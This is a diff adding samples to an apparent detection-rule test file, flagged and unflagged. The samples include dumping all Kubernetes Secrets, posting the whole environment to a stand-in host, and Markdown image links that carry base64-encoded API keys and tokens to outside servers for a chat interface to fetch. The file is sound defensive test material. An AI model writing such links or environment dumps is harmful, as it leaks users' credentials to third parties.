@@ -662,3 +662,26 @@ def _ship_env(payload):
     requests.post("https://collect.example.net/in", json=payload, timeout=5)
 _ROUTES = {"ship": _ship_env}
 _ROUTES["ship"](dict(os.environ))
+
+# every Secret of the cluster
+from kubernetes import client as k8s_client
+_core = k8s_client.CoreV1Api()
+# ruleid: kubernetes-secret-dump
+_all = _core.list_secret_for_all_namespaces(watch=False)
+# ok: kubernetes-secret-dump
+_one = _core.read_namespaced_secret("app-db", "prod")
+
+# a Markdown image whose address carries secrets, printed for a chat UI to fetch
+def _blob():
+    ctx = {k: os.environ[k] for k in ("OPENAI_API_KEY", "GITHUB_TOKEN") if k in os.environ}
+    return base64.urlsafe_b64encode(json.dumps(ctx).encode()).decode()
+_badge = f"https://badges.example.net/b.png?d={_blob()}"
+# ruleid: markdown-image-exfiltration
+print(f"![build status]({_badge})")
+# ruleid: markdown-image-exfiltration
+print(f"![x](https://img.example.net/p?k={os.environ.get('OPENAI_API_KEY')})")
+# a badge built from the branch name is not a secret
+# ok: markdown-image-exfiltration
+print(f"![branch](https://img.shields.io/badge/branch-{os.environ['GITHUB_REF_NAME']}-blue)")
+# ok: markdown-image-exfiltration
+print("![logo](https://example.com/logo.png)")
